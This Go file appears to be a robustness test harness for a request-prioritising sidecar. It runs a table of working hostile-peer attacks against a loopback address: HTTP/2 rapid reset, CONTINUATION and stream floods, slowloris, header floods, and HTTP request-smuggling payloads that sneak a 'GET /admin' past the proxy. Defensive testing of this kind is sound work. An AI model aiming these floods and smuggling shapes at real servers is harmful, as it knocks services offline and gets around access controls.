package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/triagehq/triage/internal/testkit/h2attack"
)

// attack is one row: what a hostile peer does to the sidecar at addr
// until ctx ends, every loop bounded in rate and count.
type attack struct {
	name     string
	upstream string // the sidecar's upstream scheme: h2c (gRPC) or http
	run      func(ctx context.Context, addr string)
}

const method = "/grpc.testing.TestService/EmptyCall"

var attacks = []attack{
	{"zero window: 16 HTTP/2 connections x 30 gRPC calls, never read", "h2c", func(ctx context.Context, addr string) {
		stop, err := h2attack.ZeroWindowGRPCFrom(attackerIP, addr, method, 16, 30)
		if err == nil {
			<-ctx.Done()
			stop()
		}
	}},
	{"stream flood: 16 connections, gRPC headers without a message, 1,000 streams each", "h2c", func(ctx context.Context, addr string) {
		each(ctx, 16, func(ctx context.Context) { streamFlood(ctx, addr, 1000, false) })
	}},
	{"paused streams: 16 connections, 1,000 full-duplex calls each, one message and then nothing", "h2c", func(ctx context.Context, addr string) {
		each(ctx, 16, func(ctx context.Context) { pausedStreams(ctx, addr, 1000) })
	}},
	{"rapid reset: 4 connections, HEADERS then RST_STREAM, 1,000/s each", "h2c", func(ctx context.Context, addr string) {
		each(ctx, 4, func(ctx context.Context) { streamFlood(ctx, addr, 1<<20, true) })
	}},
	{"CONTINUATION flood: 4 connections, endless header fragments", "h2c", func(ctx context.Context, addr string) {
		each(ctx, 4, func(ctx context.Context) { continuationFlood(ctx, addr) })
	}},
	{"trailer flood: 4 connections, gRPC calls with 200 triage-* trailers, 200/s each", "h2c", func(ctx context.Context, addr string) {
		each(ctx, 4, func(ctx context.Context) { trailerFlood(ctx, addr) })
	}},
	{"grpc-timeout huge, negative, malformed: 4 connections, 200 calls/s each", "h2c", func(ctx context.Context, addr string) {
		each(ctx, 4, func(ctx context.Context) { badTimeouts(ctx, addr) })
	}},
	{"slowloris headers: 1,000 connections, a byte a second", "http", func(ctx context.Context, addr string) {
		slowloris(ctx, addr, 1000, "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ", "x")
	}},
	{"slowloris bodies: 1,000 connections, a byte a second", "http", func(ctx context.Context, addr string) {
		slowloris(ctx, addr, 1000, "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n", "x")
	}},
	{"header flood: 8 connections, requests with 60 KiB of headers, 100/s each", "http", func(ctx context.Context, addr string) {
		var b strings.Builder
		for i := range 1000 {
			fmt.Fprintf(&b, "X-Flood-%d: %s\r\n", i, strings.Repeat("a", 48))
		}
		each(ctx, 8, func(ctx context.Context) { rawLoop(ctx, addr, 100, "GET / HTTP/1.1\r\nHost: x\r\n"+b.String()+"\r\n") })
	}},
	{"triage-key flood: 8 connections, requests with 500 distinct triage-* headers, 100/s each", "http", func(ctx context.Context, addr string) {
		var b strings.Builder
		for i := range 500 {
			fmt.Fprintf(&b, "Triage-Key-%d: CRITICAL_PLUS\r\n", i)
		}
		each(ctx, 8, func(ctx context.Context) { rawLoop(ctx, addr, 100, "GET / HTTP/1.1\r\nHost: x\r\n"+b.String()+"\r\n") })
	}},
	{"upgrade tunnels: 200 WebSocket tunnels held open", "http", func(ctx context.Context, addr string) {
		tunnels(ctx, addr, 200)
	}},
	{"h2c upgrade offers: 4 connections, 100/s each", "http", func(ctx context.Context, addr string) {
		each(ctx, 4, func(ctx context.Context) {
			rawLoop(ctx, addr, 100, "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nTriage-Criticality: CRITICAL_PLUS\r\n\r\n")
		})
	}},
	{"smuggling shapes: CL+TE, two Content-Lengths, obs-fold, GET bodies, pipelining; 4 connections, 100/s each", "http", func(ctx context.Context, addr string) {
		smuggled := "GET /admin HTTP/1.1\r\nHost: x\r\nTriage-Criticality: CRITICAL_PLUS\r\n\r\n"
		shapes := []string{
			fmt.Sprintf("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s", smuggled),
			fmt.Sprintf("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n%s", len(smuggled), smuggled),
			fmt.Sprintf("POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n%s", smuggled),
			fmt.Sprintf("GET / HTTP/1.1\r\nHost: x\r\nX-Fold: a\r\n b\r\nContent-Length: %d\r\n\r\n%s", len(smuggled), smuggled),
			fmt.Sprintf("GET / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s", len(smuggled), smuggled),
		}
		each(ctx, 4, func(ctx context.Context) {
			for i := 0; ctx.Err() == nil; i++ {
				rawLoop(ctx, addr, 100, shapes[i%len(shapes)], 20)
			}
		})
	}},
	{"gRPC-web: 4 connections, application/grpc-web calls, 100/s each", "http", func(ctx context.Context, addr string) {
		each(ctx, 4, func(ctx context.Context) {
			rawLoop(ctx, addr, 100, "POST "+method+" HTTP/1.1\r\nHost: x\r\nContent-Type: application/grpc-web+proto\r\nX-Grpc-Web: 1\r\nGrpc-Timeout: 99999999H\r\nContent-Length: 5\r\n\r\n\x00\x00\x00\x00\x00")
		})
	}},
}

// attackerIP is the attackers' source address: a loopback address the
// sidecar does not trust (its -trust is the good client's, 127.0.0.1).
var attackerIP = net.IPv4(127, 0, 0, 2)

// dial connects to addr from attackerIP.
func dial(addr string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: attackerIP}}
	return d.Dial("tcp", addr)
}

// each runs n copies of f until ctx ends, and waits for them.
func each(ctx context.Context, n int, f func(context.Context)) {
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() { f(ctx) })
	}
	wg.Wait()
}

// h2 is a cleartext HTTP/2 client connection written frame by frame.
type h2 struct {
	c   net.Conn
	fr  *http2.Framer
	buf bytes.Buffer
	enc *hpack.Encoder
	mu  sync.Mutex // the framer's writes
}

// dialH2 connects, sends the preface and settings, and drains the
// server's frames (acknowledging its settings) on a goroutine that ends
// with the connection.
func dialH2(addr string) (*h2, error) {
	c, err := dial(addr)
	if err != nil {
		return nil, err
	}
	h := &h2{c: c, fr: http2.NewFramer(c, c)}
	h.enc = hpack.NewEncoder(&h.buf)
	c.Write([]byte(http2.ClientPreface))
	h.fr.WriteSettings()
	go func() {
		for {
			f, err := h.fr.ReadFrame()
			if err != nil {
				return
			}
			if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
				h.mu.Lock()
				h.fr.WriteSettingsAck()
				h.mu.Unlock()
			}
		}
	}()
	return h, nil
}

// block encodes header fields, name and value in turn.
func (h *h2) block(fields ...string) []byte {
	h.buf.Reset()
	for i := 0; i+1 < len(fields); i += 2 {
		h.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return bytes.Clone(h.buf.Bytes())
}

func grpcHeaders(addr string, extra ...string) []string {
	return append([]string{":method", "POST", ":scheme", "http", ":authority", addr, ":path", method,
		"content-type", "application/grpc", "te", "trailers"}, extra...)
}

// reconnecting runs f on fresh connections until ctx ends, at most one
// connection a 100 ms.
func reconnecting(ctx context.Context, addr string, f func(*h2) error) {
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for ctx.Err() == nil {
		if h, err := dialH2(addr); err == nil {
			stop := context.AfterFunc(ctx, func() { h.c.Close() })
			f(h)
			stop()
			h.c.Close()
		}
		select {
		case <-ctx.Done():
		case <-tick.C:
		}
	}
}

// streamFlood opens up to n gRPC streams a connection, 1,000 a second:
// headers without a message, or (reset) headers then RST_STREAM.
func streamFlood(ctx context.Context, addr string, n int, reset bool) {
	streams(ctx, addr, n, time.Millisecond, func(h *h2, id uint32, _ int) error {
		err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(grpcHeaders(addr)...), EndHeaders: true})
		if err == nil && reset {
			err = h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		return err
	})
}

// pausedStreams opens up to n full-duplex gRPC calls a connection, 1,000
// a second, each sending one message and then nothing.
func pausedStreams(ctx context.Context, addr string, n int) {
	fields := grpcHeaders(addr)
	fields[7] = "/grpc.testing.TestService/FullDuplexCall"
	streams(ctx, addr, n, time.Millisecond, func(h *h2, id uint32, _ int) error {
		if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(fields...), EndHeaders: true}); err != nil {
			return err
		}
		return h.fr.WriteData(id, false, []byte{0, 0, 0, 0, 0})
	})
}

// streams opens up to n streams a connection, one every every, each
// written by write (under the connection's lock), reconnecting when the
// server closes; it waits for ctx's end once the n are open.
func streams(ctx context.Context, addr string, n int, every time.Duration, write func(h *h2, id uint32, i int) error) {
	reconnecting(ctx, addr, func(h *h2) error {
		tick := time.NewTicker(every)
		defer tick.Stop()
		for i := 0; i < n && ctx.Err() == nil; i++ {
			h.mu.Lock()
			err := write(h, uint32(2*i+1), i)
			h.mu.Unlock()
			if err != nil {
				return err
			}
			<-tick.C
		}
		<-ctx.Done()
		return nil
	})
}

// continuationFlood sends a HEADERS frame without END_HEADERS, then
// CONTINUATION frames of 16 KiB, 100 a second, until the server closes.
func continuationFlood(ctx context.Context, addr string) {
	reconnecting(ctx, addr, func(h *h2) error {
		h.mu.Lock()
		err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block(grpcHeaders(addr)...)})
		h.mu.Unlock()
		frag := h.block("x-flood", strings.Repeat("a", 16000))
		tick := time.NewTicker(10 * time.Millisecond)
		defer tick.Stop()
		for err == nil && ctx.Err() == nil {
			h.mu.Lock()
			err = h.fr.WriteContinuation(1, false, frag)
			h.mu.Unlock()
			<-tick.C
		}
		return err
	})
}

// trailerFlood makes gRPC calls whose request trailers hold 200 triage-*
// keys, 200 a second.
func trailerFlood(ctx context.Context, addr string) {
	var trailers []string
	for i := range 200 {
		trailers = append(trailers, fmt.Sprintf("triage-flood-%d", i), "CRITICAL_PLUS")
	}
	trailers = append(trailers, "triage-criticality", "CRITICAL_PLUS")
	streams(ctx, addr, 100_000, 5*time.Millisecond, func(h *h2, id uint32, _ int) error {
		if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(grpcHeaders(addr)...), EndHeaders: true}); err != nil {
			return err
		}
		if err := h.fr.WriteData(id, false, []byte{0, 0, 0, 0, 0}); err != nil {
			return err
		}
		return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(trailers...), EndHeaders: true, EndStream: true})
	})
}

// badTimeouts makes gRPC calls with grpc-timeout values no client should
// send, 200 a second.
func badTimeouts(ctx context.Context, addr string) {
	values := []string{"99999999H", "0n", "-5S", "abc", "1", "", "100000000000S", "5 m"}
	streams(ctx, addr, 100_000, 5*time.Millisecond, func(h *h2, id uint32, i int) error {
		err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(grpcHeaders(addr, "grpc-timeout", values[i%len(values)])...), EndHeaders: true})
		if err != nil {
			return err
		}
		return h.fr.WriteData(id, true, []byte{0, 0, 0, 0, 0})
	})
}

// slowloris opens n connections, each sending head and then body a byte
// a second.
func slowloris(ctx context.Context, addr string, n int, head, body string) {
	conns := open(addr, n, func(c net.Conn) { c.Write([]byte(head)) })
	defer closeAll(conns)
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		for _, c := range conns {
			c.SetWriteDeadline(time.Now().Add(10 * time.Millisecond))
			c.Write([]byte(body))
		}
	}
}

// rawLoop sends req on a connection rate times a second, reading and
// dropping what comes back, reconnecting when the server closes; at most
// limit requests (none: until ctx ends).
func rawLoop(ctx context.Context, addr string, rate int, req string, limit ...int) {
	tick := time.NewTicker(time.Second / time.Duration(rate))
	defer tick.Stop()
	var c net.Conn
	defer func() {
		if c != nil {
			c.Close()
		}
	}()
	for i := 0; ctx.Err() == nil && (len(limit) == 0 || i < limit[0]); i++ {
		if c == nil {
			var err error
			if c, err = dial(addr); err != nil {
				return
			}
			go io.Copy(io.Discard, c)
		}
		if _, err := c.Write([]byte(req)); err != nil {
			c.Close()
			c = nil
		}
		select {
		case <-ctx.Done():
		case <-tick.C:
		}
	}
}

// tunnels opens n WebSocket tunnels and holds them open.
func tunnels(ctx context.Context, addr string, n int) {
	conns := open(addr, n, func(c net.Conn) {
		fmt.Fprintf(c, "GET /ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		if resp, err := http.ReadResponse(bufio.NewReader(c), nil); err == nil && resp.StatusCode != http.StatusSwitchingProtocols {
			c.Close()
		}
		c.SetReadDeadline(time.Time{})
	})
	defer closeAll(conns)
	<-ctx.Done()
}

// open opens up to n connections to addr, calling first on each.
func open(addr string, n int, first func(net.Conn)) []net.Conn {
	var conns []net.Conn
	for range n {
		c, err := dial(addr)
		if err != nil {
			break
		}
		conns = append(conns, c)
		first(c)
	}
	return conns
}

func closeAll(conns []net.Conn) {
	for _, c := range conns {
		c.Close()
	}
}
